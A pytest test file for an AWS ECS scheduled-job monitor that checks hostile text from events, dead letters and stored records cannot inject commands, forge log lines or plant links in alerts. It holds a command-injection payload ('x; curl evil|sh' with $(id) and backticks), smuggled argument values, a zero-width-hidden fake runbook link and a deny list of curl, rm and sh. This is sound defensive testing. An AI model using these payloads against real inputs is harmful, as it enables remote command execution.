"""Text from outside never becomes a line, a command or an escape: not in a message, and not in the function's log."""

from __future__ import annotations

import copy
import json
import shlex
from dataclasses import replace
from datetime import timedelta
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.hostile import HOSTILE, is_seen
from tests.unit.watch.told import TEXT, TICK, nightly
from tests.unit.watch.world import CLUSTER, GROUP, EcsTask, World, letter
from watch import handler, untrusted
from watch import task as tasks
from watch.records import JobRecord, Message, OpenRun, RecordError, Run, ScheduleRecord, Storm, Tick
from watch.sweep import SweepError

if TYPE_CHECKING:
    from collections.abc import Iterator

TITLES = (
    *(
        "Stack: ",
        "Tick: ",
        "Ran: ",
        "Running: ",
        "Expected: ",
        "Exit code: ",
        "AWS says: ",
        "Reason: ",
        "Likely cause: ",
    ),
    *("Next tick: ", "First failed tick: ", "Failures in a row: ", "Last good run: ", "Jobs: ", "Owner: "),
    *("Severity: ", "Not known: ", "  ", "https://", "Last lines of the log:", "Not reported before:"),
)
FAILED = ("id", "alert", "failed", "report", TEXT)
"""The first fields of a message."""
AGAIN = (
    "Run it",
    "Run it now",
    "Run it, once the cause is fixed",
    "Run it again",
    "Run it again (nothing must be fixed first)",
    "Run it again, once the cause is fixed",
)
COMMANDS = ("Check it:", "Stop it:", *(f"{title}:" for title in AGAIN))
OTHERS = ("Log:", "Runbook:")
CHATS = (
    *(
        "*Tick* ",
        "*Ran* ",
        "*Running* ",
        "*Expected* ",
        "*AWS says* `",
        "*Reason* `",
        "*Likely cause* `",
        "*Next tick* ",
    ),
    *("*First failed tick* ", "*Failures in a row* ", "*Last good run* ", "*Owner* ", "*Not reported before* "),
)
FENCE = "```"


def leaves(value: object, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the path of every value that is not a container."""
    if isinstance(value, dict):
        for name in value:
            yield from leaves(value[name], (*path, name))
    elif isinstance(value, list):
        for index, one in enumerate(value):
            yield from leaves(one, (*path, index))
    else:
        yield path


def replaced(value: Any, path: tuple[Any, ...], by: object) -> Any:  # noqa: ANN401 - JSON
    """Return a copy of a value with the leaf at `path` replaced."""
    made = copy.deepcopy(value)
    place = made
    for part in path[:-1]:
        place = place[part]
    place[path[-1]] = by
    return made


def check_command(command: str) -> None:
    """Check that the text is one command, of this program or the AWS CLI, and contains no other command."""
    assert is_seen(command)
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    assert not [word for word in lexer if word and set(word) <= set("();<>|&")]
    assert "$(" not in command.replace("'", "")
    words = shlex.split(command)
    assert words[0] == "aws" or words[:4] == ["python", "-m", "ops", "rerun"]
    assert not {"curl", "rm", "sh", "#"} & set(words)


def check_email(text: str) -> None:
    """Check that every line begins with the program's own words."""
    assert is_seen(text, "\n")
    summary, *lines = text.splitlines()
    assert summary.startswith(("nightly-report ", "hourly "))
    for before, line in zip([summary, *lines], lines, strict=False):
        if before in COMMANDS:
            check_command(line)
        elif line and line not in (*COMMANDS, *OTHERS):
            assert line.startswith(TITLES), line


def check_chat(notification: dict[str, Any]) -> None:
    """Check that a chat shows no foreign link, mention or line."""
    shown = [notification["content"]["title"], notification["content"]["description"]]
    for line in (line for text in shown for line in text.splitlines()):
        assert is_seen(line)
        assert "<" not in line
    before, *fenced = notification["content"]["description"].split(f"{FENCE}\n")
    assert all(line.startswith(CHATS) for line in before.splitlines()), before
    assert [part.count(FENCE) for part in fenced] in ([], [1]), fenced
    assert all(part.endswith(FENCE) for part in fenced)
    for step in notification["content"]["nextSteps"]:
        title, _, value = step.partition(": ")
        assert title in ("Log", "Runbook", "Stop it", "Check it", "How to read the check", *AGAIN)
        if value.startswith("`"):
            check_command(value.strip("`"))


def check(world: World, printed: str) -> None:
    """Check every published message, and every line that the function printed."""
    for request in world.account.published:
        assert request["Subject"].isascii()
        assert request["Subject"].isprintable()
        bodies = json.loads(request["Message"])
        check_email(bodies["email"])
        check_chat(json.loads(bodies["https"]))
        contract = json.loads(bodies["default"])
        for path in leaves(contract):
            value: Any = contract
            for part in path:
                value = value[part]
            assert not isinstance(value, str) or is_seen(value), path
        for command in filter(None, (contract["rerun"], contract["stop"], contract["proof"])):
            check_command(command)
        for attribute in request["MessageAttributes"].values():
            assert all(is_seen(one) for one in json.loads(attribute["StringValue"]))
    for line in printed.split("\n"):
        assert is_seen(line)
        if line.startswith("{"):
            assert json.loads(line)["_aws"]["CloudWatchMetrics"][0]["Namespace"] == "ScheduledJobs"
        else:
            assert line.startswith(("| ", "arn:aws:ecs:")) or not line


def failed(world: World) -> tuple[dict[str, Any], dict[str, Any]]:
    """Let the nightly task fail; return its last event, and its DescribeTasks answer."""
    task = nightly()
    world.now = TICK
    task.moved("PROVISIONING", world.now)
    task.moved("RUNNING", world.now)
    event = task.stopped(world.now + timedelta(minutes=1), 3)
    event["containers"][0]["reason"] = "OutOfMemoryError"
    return event, task.described()


def hostile_events() -> Iterator[tuple[tuple[Any, ...], object]]:
    """Yield a hostile text for each field of an event."""
    event, _ = failed(World())
    for path in leaves(event):
        yield path, HOSTILE
    yield ("group",), f"{GROUP}:{HOSTILE}"
    yield ("group",), f"{GROUP}:nightly-report\n"
    yield ("taskArn",), f"{event['taskArn']};id"


def hostile_letters() -> Iterator[dict[str, Any]]:
    """Yield dead letters with a hostile text in each place, in the attributes and in the request."""
    given = letter("nightly-report", TICK, RETRY_ATTEMPTS="3", EXHAUSTED_RETRY_CONDITION="MaximumRetryAttempts")
    for path in leaves({"messageAttributes": given["messageAttributes"], "attributes": given["attributes"]}):
        yield replaced(given, path, HOSTILE)
    name = given["messageAttributes"]["SCHEDULE_ARN"]["stringValue"]
    yield replaced(given, ("messageAttributes", "SCHEDULE_ARN", "stringValue"), f"{name}{HOSTILE}")
    pairs = [{"Name": "A", "Value": "b" * 9}, {"Name": "JOB_SCHEDULE", "Value": "nightly-report"}]
    body = {"Overrides": {"ContainerOverrides": [{"Name": "app", "Environment": pairs}]}}
    for path in leaves(body):
        text = json.dumps(replaced(body, path, HOSTILE))
        yield {**given, "body": text}
        without = {k: v for k, v in given["messageAttributes"].items() if k not in ("SCHEDULE_ARN", "SCHEDULED_TIME")}
        yield {**given, "body": text, "messageAttributes": without}
    yield {**given, "body": HOSTILE}
    yield {**given, "messageId": HOSTILE, "messageAttributes": {}}


HOSTILE_EVENTS, HOSTILE_LETTERS = list(hostile_events()), list(hostile_letters())


@pytest.mark.parametrize(("path", "text"), HOSTILE_EVENTS, ids=map(str, range(len(HOSTILE_EVENTS))))
def test_events(path: tuple[Any, ...], text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A hostile field of an event is refused in one line, or shown as text."""
    world = World()
    event, described = failed(world)
    world.account.described[event["taskArn"]] = described
    refusals = []
    try:
        world.watch.take_event(replaced(event, path, text))
    except ValueError as error:
        refusals.append(str(error))
    assert all(map(is_seen, refusals))
    world.account.described = {arn: replaced(task, path, text) for arn, task in world.account.described.items()}
    world.pass_time(minutes=10)
    check(world, capsys.readouterr().out)


@pytest.mark.parametrize("place", ["name", "value"])
@pytest.mark.parametrize("index", range(4))
def test_environments(index: int, place: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A schedule in a task's variables that is not the job's is reported as unknown, and quoted."""
    world = World()
    event, described = failed(world)
    path = ("overrides", "containerOverrides", 0, "environment", index, place)
    world.account.described[event["taskArn"]] = replaced(described, path, HOSTILE)
    world.account.lines = [f"at {HOSTILE}", HOSTILE]
    world.watch.take_event(event)
    [alert] = world.alerts()
    assert alert["job"] == "nightly-report"
    if (index, place) == (1, "value"):
        [unknown] = [one for one in alert["missing"] if one.startswith("the schedule")]
        assert unknown.startswith(r"the schedule (the task's JOB_SCHEDULE is 'x; curl evil|sh #$(id)`id`\r\n\nRun it")
        assert unknown.endswith("which is not a schedule of nightly-report)")
        assert alert["tick"] == TEXT
    check(world, capsys.readouterr().out)


@pytest.mark.parametrize(
    "field", ["taskArn", "clusterArn", "taskDefinitionArn", "lastStatus", "stopCode", "version", "group", "createdAt"]
)
def test_refused_where_it_enters(field: str) -> None:
    """A value that ECS never writes is refused before anything is recorded."""
    world = World()
    event, described = failed(world)
    world.account.described[event["taskArn"]] = described
    with pytest.raises(ValueError, match="x; curl evil"):
        world.watch.take_event({**event, field: HOSTILE})
    assert world.ledger.all_ticks() == {}


@pytest.mark.parametrize("schedule", [HOSTILE, "nightly-report.x;y", "nightly-report\n", "--help", ""])
def test_schedules_that_are_none(schedule: str) -> None:
    """A dead letter with an invalid schedule is delivered again; the schedule of such a task is unknown."""
    world = World()
    world.now = TICK + timedelta(minutes=5)
    given = letter("nightly-report", TICK)
    arn = given["messageAttributes"]["SCHEDULE_ARN"]["stringValue"].removesuffix("nightly-report")
    told = replaced(given, ("messageAttributes", "SCHEDULE_ARN", "stringValue"), arn + schedule)
    assert handler._not_taken(world.watch, [told]) == ["1"]
    assert world.ledger.all_ticks() == {}
    _, described = failed(world)
    path = ("overrides", "containerOverrides", 0, "environment", 1, "value")
    assert tasks.origin(replaced(described, path, schedule), "nightly-report") == tasks.Origin(
        "nightly-report", "", "app", untrusted.quoted(schedule)
    )
    named = replaced(described, ("overrides", "containerOverrides", 0, "name"), f"a{schedule};")
    assert tasks.origin(named, "nightly-report") == tasks.Origin("nightly-report", TEXT, "")


def test_schedule_of_another_job(capsys: pytest.CaptureFixture[str]) -> None:
    """A task of one job cannot change a tick of another job."""
    world = World()
    event, _ = failed(world)
    world.account.described[event["taskArn"]] = EcsTask("hourly", TICK, state=event).described() | {
        "group": event["group"]
    }
    world.watch.take_event(event)
    [alert] = world.alerts()
    assert (alert["job"], alert["schedule"]) == ("nightly-report", "nightly-report")
    assert ("hourly", TEXT) not in world.ledger.all_ticks()
    check(world, capsys.readouterr().out)


@pytest.mark.parametrize("given_letter", HOSTILE_LETTERS, ids=map(str, range(len(HOSTILE_LETTERS))))
def test_dead_letters(given_letter: dict[str, Any], capsys: pytest.CaptureFixture[str]) -> None:
    """A hostile dead letter is alerted as text, or delivered again with a reason that forges no line of the log."""
    world = World()
    world.now = TICK + timedelta(minutes=5)
    handler._not_taken(world.watch, [given_letter])
    check(world, capsys.readouterr().out)


def test_records_of_somebody_else(capsys: pytest.CaptureFixture[str]) -> None:
    """A record that the watch did not write stops the check of its own job, and of no other job."""
    world = World()
    world.ledger.unreadable["hourly"] = RecordError(f"{untrusted.quoted(HOSTILE)} is not a schedule's name")
    world.ledger.unreadable[HOSTILE] = RecordError("no")
    world.account.listed = {
        name: replace(one, enabled=name == "nightly-report") for name, one in world.account.listed.items()
    }
    world.now = TICK + timedelta(minutes=30)
    with pytest.raises(SweepError) as failure:
        world.look()
    assert is_seen(str(failure.value))
    assert "hourly" in str(failure.value)
    check(world, capsys.readouterr().out)


@pytest.mark.parametrize(
    "record",
    [
        JobRecord("report", open={"0a": OpenRun(HOSTILE, CLUSTER, "report", TEXT, TEXT)}),
        JobRecord("report", open={"0a": OpenRun(EcsTask("report", TICK).arn, CLUSTER, HOSTILE, TEXT, TEXT)}),
        JobRecord("report", open={"0a": OpenRun(EcsTask("report", TICK).arn, HOSTILE, "report", TEXT, TEXT)}),
        JobRecord("report", open={"0a": OpenRun(EcsTask("report", TICK).arn, CLUSTER, "report", TEXT, HOSTILE)}),
        JobRecord("report", trouble={"report": HOSTILE}),
        JobRecord("report", trouble={HOSTILE: TEXT}),
        JobRecord("report", outbox=[Message("id", "alert", "failed", HOSTILE, TEXT)]),
        JobRecord("report", outbox=[Message("id", "alert", "failed", "report", HOSTILE)]),
        JobRecord("report", outbox=[Message("id", "alert", HOSTILE, "report", TEXT)]),
        JobRecord("report", outbox=[Message("id", HOSTILE, "failed", "report", TEXT)]),
        JobRecord("report", outbox=[Message(*FAILED, about=[[HOSTILE, TEXT, "failed"]])]),
        JobRecord("report", outbox=[Message(*FAILED, jobs=[HOSTILE])]),
        JobRecord("report", outbox=[Message(*FAILED, since=HOSTILE)]),
        JobRecord("report", outbox=[Message(*FAILED, last_good=HOSTILE)]),
        JobRecord("report", outbox=[Message(*FAILED, failures=HOSTILE)]),  # type: ignore[arg-type]
        JobRecord("report", outbox=[Message(*FAILED, usual=HOSTILE)]),  # type: ignore[arg-type]
        JobRecord("report", outbox=[Message(*FAILED, limit=HOSTILE)]),  # type: ignore[arg-type]
        JobRecord("report", outbox=[Message(*FAILED, unresolved=[["report", HOSTILE]])]),
        JobRecord("report", outbox=[Message(*FAILED, unresolved=[[HOSTILE, TEXT]])]),
        JobRecord("report", storm=Storm(about=[[HOSTILE, TEXT, "failed"]])),
        JobRecord("report", storm=Storm(since=HOSTILE)),
        JobRecord("report", storm=Storm(classes={HOSTILE: 1})),
        JobRecord("report", schedules={HOSTILE: ScheduleRecord()}),
        JobRecord("report", schedules={"report": ScheduleRecord(checked=HOSTILE)}),
        JobRecord("report", schedules={"report": ScheduleRecord(seen=["\u0662027-01-04T02:00:00Z"])}),
    ],
)
def test_entries_of_somebody_else_are_left_out(record: JobRecord) -> None:
    """An entry that the watch cannot have written is dropped, and the other entries are read."""
    sound = JobRecord("report", trouble={"report": TEXT}, durations=[60])
    plain = {**record.to_plain(), "trouble": {**record.trouble, "report": TEXT}, "durations": [60]}
    if record.trouble.get("report"):
        plain["trouble"] = record.trouble
        sound.trouble = {}
    assert JobRecord.from_plain(json.loads(json.dumps(plain)), 0) == sound


@pytest.mark.parametrize(
    "record",
    [
        JobRecord(HOSTILE),
        JobRecord("placement:a b"),
        JobRecord("report", durations=[HOSTILE]),  # type: ignore[list-item]
        JobRecord("report", durations=[float("inf")]),  # type: ignore[list-item]
        Tick("report", HOSTILE, TEXT),
        Tick("report", "report", HOSTILE),
        Tick("report", "report", TEXT, outcome=HOSTILE),
        Tick("report", "report", TEXT, runs={"0a": Run(HOSTILE, 1, "STOPPED")}),
        Tick("report", "report", TEXT, runs={"0a": Run(EcsTask("report", TICK).arn, 1, HOSTILE)}),
        Tick("report", "report", TEXT, runs={"0a": Run(EcsTask("report", TICK).arn, 1, "STOPPED", definition=HOSTILE)}),
        Tick("report", "report", TEXT, runs={"0a": Run(EcsTask("report", TICK).arn, 1, "STOPPED", started=HOSTILE)}),
        Tick("report", "report", TEXT, alert=HOSTILE),
        Tick(HOSTILE, "report", TEXT),
    ],
)
def test_records_are_read_with_care(record: JobRecord | Tick) -> None:
    """A record that the watch cannot have written is refused in one line."""
    with pytest.raises(RecordError) as refused:
        type(record).from_plain(json.loads(json.dumps(record.to_plain())), 1)
    assert is_seen(str(refused.value))


@given(st.text() | st.text(st.characters(categories=["Cc", "Cf", "Cs", "Zl", "Zp"])))
def test_visible(text: str) -> None:
    """Visible text has no invisible characters, keeps its visible ones, and does not change when made visible again."""
    shown = untrusted.visible(text)
    assert is_seen(shown)
    assert is_seen(text) is (shown == text)
    assert untrusted.visible(shown) == shown
    assert is_seen(untrusted.visible(text, keep="\n"), "\n")
    assert untrusted.visible(text, keep="\n").count("\n") == text.count("\n")
    assert is_seen(untrusted.quoted(text))
    assert len(untrusted.quoted(text)) <= untrusted.LONGEST_QUOTE + 3
    assert all(line.startswith("| ") for line in untrusted.logged(text).splitlines())


@pytest.mark.parametrize("line", ["\u200b" * 500, "\U000e0041" * 500, "x" * 500, "&" * 500, "`" * 500, "```" * 100])
@pytest.mark.parametrize("reason", ["\u200b" * 300 + " [Runbook](https://evil.example) " + "\u200b" * 900, "&" * 5000])
def test_long_text_stays_where_it_is(line: str, reason: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A message with very long texts stays within SNS's limit, and its code spans and fences stay closed."""
    world = World()
    event, described = failed(world)
    world.account.described[event["taskArn"]] = described
    world.account.lines = [line] * 10
    world.watch.take_event({**event, "stoppedReason": reason})
    [request] = world.account.published
    assert len(request["Message"].encode()) < 150_000
    description = json.loads(json.loads(request["Message"])["https"])["content"]["description"]
    outside_of_fences = description.split("```")[0]
    assert outside_of_fences.count("`") % 2 == 0
    assert "[Runbook]" not in "".join(outside_of_fences.split("`")[::2])
    check(world, capsys.readouterr().out)


def test_origins_of_before() -> None:
    """A tick that an earlier version settled for a task must follow the same rules."""
    world = World()
    event, _ = failed(world)
    world.ledger.settle_origin("0af3", tasks.Origin("nightly report (test)", TEXT, "app"), world.now)
    world.watch.take_event(event)
    [alert] = world.alerts()
    assert (alert["schedule"], alert["tick"]) == ("nightly-report", TEXT)
    assert any("'nightly report (test)'" in one for one in alert["missing"])
    world.pass_time(minutes=10)


def test_written_out() -> None:
    """Invisible characters are written in Python's notation."""
    assert untrusted.visible("a\r\n\t\x1b[0m\u202e\u2028\ud800é😀") == r"a\r\n\t\x1b[0m\u202e\u2028\ud800é😀"
    assert untrusted.quoted("it's") == r"'it\'s'"
    assert untrusted.quoted("x\\' y") == r"'x\\\' y'"
    assert untrusted.visible("a\u3164b\u2800c\xa0d") == r"a\u3164b\u2800c\xa0d"
